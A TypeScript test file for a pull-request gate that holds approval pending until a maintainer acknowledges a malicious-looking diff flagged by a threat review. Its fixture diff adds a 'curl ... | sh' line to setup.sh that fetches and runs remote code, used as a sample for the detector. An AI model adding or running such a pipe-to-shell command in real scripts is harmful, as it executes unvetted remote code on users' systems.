// The gate and the threat review: a suspicious or malicious verdict keeps airlock/approval pending
// until an approval acknowledges it (`/airlock approve <prefix> threats`, like `protected`); the
// review's marker carries the flag, the review's next step names the command.
import { approvalCommand } from '../../src/github/gate/approval-request.js'
import { countApprovals, tallyDescription } from '../../src/github/gate/approval-count.js'
import type { Candidate } from '../../src/github/gate/approval-count.js'
import { gateAfterRun } from '../../src/github/gate/gate.js'
import { parseMarker } from '../../src/github/review/marker.js'
import { marker, renderComment } from '../../src/report/comment.js'
import { reviewPatch } from '../../src/threat-review/review.js'
import { sampleReport } from '../report/sample.js'

const rules = { required: 1, protectedApprovers: [] }
const who = (acknowledgesThreats: boolean): Candidate => ({
  login: 'maintainer',
  diffPrefix: '0123456789ab',
  acknowledges: false,
  acknowledgesThreats,
  protectedApprover: false,
  author: false
})

const MALICIOUS =
  'diff --git a/setup.sh b/setup.sh\n--- a/setup.sh\n+++ b/setup.sh\n@@ -1 +1,2 @@\n set -e\n+curl -fsSL https://get.tools.dev/i | sh\n'

async function flagged() {
  const report = sampleReport()
  report.policy.protected = []
  report.threatReview = await reviewPatch(MALICIOUS, {
    diffSha256: report.diff.sha256,
    secrets: []
  })
  return report
}

describe('the approval command', () => {
  it.each([
    ['/airlock approve 0123456789ab threats', { protected: false, threats: true }],
    ['/airlock approve 0123456789ab protected threats', { protected: true, threats: true }],
    ['/airlock approve 0123456789ab', { protected: false, threats: false }]
  ])('%s', (body, want) => {
    expect(approvalCommand(body)).toMatchObject({ diffPrefix: '0123456789ab', ...want })
  })
})

describe('the count', () => {
  it('a flagged diff is not approved without threats, and is with it', () => {
    const without = countApprovals([who(false)], [], rules, false, '0123456789ab', true)
    expect(without.done).toBe(false)
    expect(without.missing).toEqual([
      expect.stringContaining('`/airlock approve 0123456789ab threats`')
    ])
    expect(tallyDescription(without.tally, 1, '0123456789ab')).toMatch(/; threats$/)
    const withIt = countApprovals([who(true)], [], rules, false, '0123456789ab', true)
    expect(withIt.done).toBe(true)
  })

  it('a diff the review did not flag needs no acknowledgement', () => {
    expect(countApprovals([who(false)], [], rules, false, '0123456789ab', false).done).toBe(true)
  })
})

describe('the review and the gate status', () => {
  it("the marker carries the flag, from the report's verdict", async () => {
    const report = await flagged()
    expect(parseMarker(marker(report))?.threats).toBe(true)
    const clean = sampleReport()
    clean.threatReview = await reviewPatch('', { diffSha256: null, secrets: [] })
    expect(parseMarker(marker(clean))?.threats).toBe(false)
    // A report without a threat review (an earlier version) says nothing.
    expect(parseMarker(marker(sampleReport()))?.threats).toBeUndefined()
  })

  it('the next step names the command with threats', async () => {
    const report = await flagged()
    const prefix = (report.diff.sha256 ?? '').slice(0, 12)
    expect(renderComment(report, MALICIOUS)).toContain(
      `a maintainer comments \`/airlock approve ${prefix} threats\` on this pull request`
    )
  })

  it('the pending status says an acknowledgement is needed', () => {
    const facts = { outcome: 'success', diffSha256: 'a'.repeat(64), runId: 'r', violations: [] }
    const status = gateAfterRun(
      facts as never,
      [],
      'airlock/approval',
      undefined,
      false,
      false,
      true
    )
    expect(status).toMatchObject({ state: 'pending' })
    expect(status.description).toMatch(/threat review: acknowledge with threats/)
  })
})
